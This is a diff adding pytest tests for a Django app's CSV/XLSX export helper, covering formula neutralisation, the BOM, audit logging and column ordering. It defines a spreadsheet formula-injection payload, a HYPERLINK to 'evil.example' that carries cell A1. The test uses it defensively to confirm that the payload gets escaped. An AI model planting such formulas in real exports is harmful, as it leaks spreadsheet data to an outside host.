@@ -1,0 +1,63 @@
+"""One export helper for every list (SPEC §3): CSV with a BOM, formula-leading cells neutralised, ID numbers as
+text, XLSX readable by a reader; ``?ordering=`` on declared columns, 400 otherwise."""
+
+import csv
+import io
+
+import openpyxl
+import pytest
+
+from civil_affairs.accounts.models import Role
+from civil_affairs.audit.models import AuditEvent
+from civil_affairs.exports import neutralise
+from tests.people.factories import PersonFactory
+
+pytestmark = pytest.mark.django_db
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击领取")'
+
+
+@pytest.mark.parametrize("leader", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_that_starts_like_a_formula_is_prefixed(leader):
+    assert neutralise(f"{leader}1+1") == f"'{leader}1+1"
+    assert neutralise("王秀英") == "王秀英"
+
+
+def test_a_people_csv_opens_as_text_with_a_bom(api_as, make_user, divisions):
+    admin = make_user(Role.ADMINISTRATOR, "370114")
+    PersonFactory(name=EVIL, division_id="370114001001")
+
+    response = api_as(admin).get("/api/v1/people/?format=csv")
+
+    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
+    body = b"".join(response.streaming_content).decode("utf-8")
+    assert body.startswith("\ufeff")
+    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
+    assert rows[0][0] == "Name"
+    assert rows[1][0] == "'" + EVIL
+    assert AuditEvent.objects.filter(action="export", object_type="people").count() == 1
+
+
+def test_a_people_xlsx_has_text_cells_only_for_names(api_as, make_user, divisions):
+    admin = make_user(Role.ADMINISTRATOR, "370114")
+    PersonFactory(name=EVIL, division_id="370114001001")
+
+    response = api_as(admin).get("/api/v1/people/?format=xlsx")
+
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    rows = list(sheet.iter_rows(values_only=True))
+    assert rows[0][0] == "Name"
+    assert rows[1][0] == "'" + EVIL
+    assert sheet.cell(row=2, column=1).data_type == "s"
+
+
+def test_ordering_by_a_declared_column_and_400_for_an_undeclared_one(api_as, make_user, divisions):
+    admin = make_user(Role.ADMINISTRATOR, "370114")
+    for name in ("乙", "甲", "丙"):
+        PersonFactory(name=name, division_id="370114001001")
+
+    ordered = api_as(admin).get("/api/v1/people/?ordering=-name").json()["results"]
+    refused = api_as(admin).get("/api/v1/people/?ordering=phone")
+
+    assert [p["name"] for p in ordered] == sorted(["乙", "甲", "丙"], reverse=True)
+    assert refused.status_code == 400 and "ordering" in refused.json()
